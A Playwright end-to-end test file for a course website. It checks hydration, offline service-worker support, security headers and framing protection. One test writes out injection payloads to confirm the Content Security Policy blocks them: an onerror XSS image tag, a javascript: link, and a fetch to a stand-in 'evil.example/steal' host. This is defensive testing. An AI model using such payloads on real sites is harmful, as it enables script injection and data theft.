import type { Page } from '@playwright/test';
import { course } from './addresses';
import { production, startSite } from './site';
import { expect, test } from './test';

test.use({ baseURL: production });

const prerendered = ['/', '/courses', course, '/creators', '/pricing', '/help', '/contact', '/about'];

/** Moves the mouse over the page, which is what the product waits for, until it has taken the page over. */
async function wake(page: Page) {
  await page.mouse.move(200, 300);
  await page.mouse.move(220, 320);
  await expect
    .poll(() =>
      page.evaluate(() =>
        Object.keys(document.querySelector('h1') ?? {}).some((key) => key.startsWith('__reactFiber')),
      ),
    )
    .toBe(true);
}

/** The same element before and after: nothing was thrown away and drawn anew. */
async function expectTakenOver(page: Page) {
  await page.evaluate(() => document.querySelector('h1')?.setAttribute('data-before', ''));
  await wake(page);
  await expect(page.locator('h1[data-before]')).toHaveCount(1);
}

for (const address of prerendered) {
  test(`${address} is there before its scripts and is taken over without being redrawn`, async ({ page }) => {
    await page.goto(address);
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    await expectTakenOver(page);
  });
}

for (const variant of [
  { name: 'in the dark', colorScheme: 'dark', reducedMotion: 'no-preference' },
  { name: 'with reduced motion', colorScheme: 'light', reducedMotion: 'reduce' },
] as const) {
  for (const address of ['/', '/courses', course]) {
    test(`${address} is taken over ${variant.name}`, async ({ page }) => {
      await page.emulateMedia(variant);
      await page.goto(address);
      await expect(page.locator('html')).toHaveAttribute('data-mui-color-scheme', variant.colorScheme);
      await expectTakenOver(page);
    });
  }
}

test('a stored session does not disturb taking over', async ({ page }) => {
  await page.route(/project\.supabase\.co/, (route) => route.abort());
  await page.addInitScript(() => {
    const user = { id: 'u1', email: 'ada@example.com', user_metadata: { firstName: 'Ada' } };
    const session = {
      access_token: 'a.b.c',
      refresh_token: 'r',
      token_type: 'bearer',
      expires_in: 3600,
      expires_at: Math.round(Date.now() / 1000) + 3600,
      user: { ...user, aud: 'authenticated', app_metadata: {}, created_at: '2025-01-01T00:00:00Z' },
    };
    localStorage.setItem('sb-project-auth-token', JSON.stringify(session));
  });
  await page.goto('/');
  await expect(page.getByRole('button', { name: 'Account menu' })).toBeVisible();
  await expect(page.getByRole('banner').getByRole('link', { name: 'Login' })).toHaveCount(0);
});

test('filters in the address are in force without a touch', async ({ page }) => {
  await page.goto('/courses?category=monetization');
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Monetization courses');
  await expect(page.getByText(/^Showing \d of 24 courses$/)).toBeVisible();
});

test('what is pressed and typed before the product runs is not lost', async ({ page }) => {
  let release = () => {};
  const held = new Promise<void>((resolve) => {
    release = resolve;
  });
  await page.route(/\/assets\/start-[^/]*\.js$/, async (route) => {
    await held;
    await route.continue();
  });
  await page.goto('/courses');
  await page.getByPlaceholder('Search courses...').pressSequentially('prompt');
  await page.getByRole('button', { name: /list/i }).click();
  await expect(page.getByText('Showing 24 of 24 courses')).toBeVisible();
  release();
  await expect(page.getByPlaceholder('Search courses...')).toHaveValue('prompt');
  await expect(page.getByText(/^Showing \d of 24 courses$/)).toBeVisible();
  await expect(page.getByRole('button', { name: /list/i })).toHaveAttribute('aria-pressed', 'true');
});

test('a press on the picture of a button, as the first touch of a page, is not lost', async ({ page }) => {
  await page.goto('/pricing');
  await page.getByRole('button', { name: 'Cart, 0 items' }).locator('svg').click();
  await expect(page.getByText(/^Your cart is empty\./)).toBeVisible();

  await page.setViewportSize({ width: 390, height: 844 });
  await page.goto('/creators');
  await page.getByRole('button', { name: 'Menu', exact: true }).locator('svg').click();
  await expect(page.getByRole('dialog', { name: 'Menu' })).toBeVisible();
});

test('nothing but the entry script is loaded until somebody reaches for the page', async ({ page }) => {
  const scripts: string[] = [];
  page.on('request', (request) => {
    const isOfPage = request.serviceWorker() === null && request.resourceType() === 'script';
    if (isOfPage) scripts.push(new URL(request.url()).pathname.replace(/-.*/, ''));
  });
  await page.goto('/courses', { waitUntil: 'networkidle' });
  expect(scripts.toSorted()).toEqual(['/assets/base', '/assets/index']);
});

test('without JavaScript every page can be read and left by its links', async ({ browser }) => {
  const context = await browser.newContext({ baseURL: production, javaScriptEnabled: false });
  const page = await context.newPage();
  await page.goto('/');
  await page.getByRole('link', { name: 'Explore Courses' }).click();
  await expect(page).toHaveURL('/courses');
  await page.getByRole('link', { name: /^Prompting That Works/ }).click();
  await expect(page.getByRole('heading', { level: 1 })).toContainText('Prompting That Works');
  await context.close();
});

test('the headers of the production build come with every page', async ({ request }) => {
  for (const address of ['/', '/login', '/no-such-page']) {
    const headers = (await request.get(address)).headers();
    expect(headers['content-security-policy']).toMatch(/^default-src 'none'; script-src 'self' 'sha256-/);
    expect(headers['x-content-type-options']).toBe('nosniff');
    expect(headers['x-frame-options']).toBe('DENY');
  }
});

test('a missing file is a 404 and never a page', async ({ request }) => {
  const asset = await request.get('/assets/Gone-12345678.js');
  expect(asset.status()).toBe(404);
  expect(asset.headers()['content-type']).toContain('text/plain');
  expect((await request.get('/no-such-page')).status()).toBe(404);
  expect((await request.get('/courses')).status()).toBe(200);
});

test('another site cannot frame a page', async ({ page, complaints }) => {
  const site = await startSite(new Map([['/frame', `<iframe src="${production}/"></iframe>`]]));
  await page.goto(`${site.origin}/frame`);
  await expect.poll(() => complaints.join()).toContain('frame-ancestors');
  await expect(page.frameLocator('iframe').getByRole('heading', { level: 1 })).toHaveCount(0);
  complaints.length = 0;
  await site.close();
});

test('injected markup, foreign requests and script addresses are refused', async ({ page, complaints }) => {
  await page.goto('/');
  const outcome = await page.evaluate(async () => {
    const attempt = async (run: () => unknown) => {
      try {
        await run();
        return 'allowed';
      } catch {
        return 'refused';
      }
    };
    const link = document.createElement('a');
    link.href = "javascript:document.title='taken'";
    document.body.append(link);
    link.click();
    const style = document.createElement('style');
    style.textContent = 'h1{display:none}';
    document.head.append(style);
    return {
      innerHTML: await attempt(() => {
        document.body.innerHTML = '<img src=x onerror=alert(1)>';
      }),
      request: await attempt(() => fetch('https://evil.example/steal')),
      worker: await attempt(() => navigator.serviceWorker.register('/assets/other.js')),
    };
  });
  expect(outcome).toEqual({ innerHTML: 'refused', request: 'refused', worker: 'refused' });
  await expect(page).not.toHaveTitle('taken');
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  complaints.length = 0;
});

test('after one visit the shop window works without a network', async ({ page, complaints }) => {
  test.slow();
  const site = await startSite();
  await page.goto(site.origin);
  await page.evaluate(() => navigator.serviceWorker.ready);
  await expect.poll(() => page.evaluate(() => navigator.serviceWorker.controller !== null)).toBe(true);
  const courses = await page.request.get(`${site.origin}/sitemap.xml`).then((answer) => answer.text());
  const addresses = [...courses.matchAll(/<loc>https?:\/\/[^/]+([^<]*)<\/loc>/g)].map(
    ([, path = '']) => path,
  );
  await site.close();

  for (const address of addresses.map((path) => path.replaceAll('&amp;', '&'))) {
    await page.goto(`${site.origin}${address}`);
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    await expect(page.getByRole('heading', { level: 1 })).not.toHaveText(/not found|went wrong/i);
  }
  await page.goto(`${site.origin}/courses`);
  await page.getByPlaceholder('Search courses...').fill('prompt');
  await expect(page.getByText(/^Showing \d of 24 courses$/)).toBeVisible();
  await page.goto(`${site.origin}/login`);
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  complaints.length = 0;
});

test('a mock worker left by an earlier demo is removed', async ({ page }) => {
  const site = await startSite(
    new Map([
      ['/mockServiceWorker.js', 'self.addEventListener("fetch", () => {});'],
      ['/before', '<title>Before</title>'],
    ]),
  );
  await page.goto(`${site.origin}/before`);
  await page.evaluate(async () => {
    await navigator.serviceWorker.register('/mockServiceWorker.js');
    await navigator.serviceWorker.ready;
  });
  await page.goto(site.origin);
  const workers = () =>
    page.evaluate(async () => {
      const registrations = await navigator.serviceWorker.getRegistrations();
      return registrations.map(
        ({ active, installing, waiting }) =>
          new URL((active ?? waiting ?? installing)?.scriptURL ?? '', location.href).pathname,
      );
    });
  await expect.poll(workers).toEqual([]);
  await page.reload();
  await expect.poll(workers).toEqual(['/service-worker.js']);
  await site.close();
});
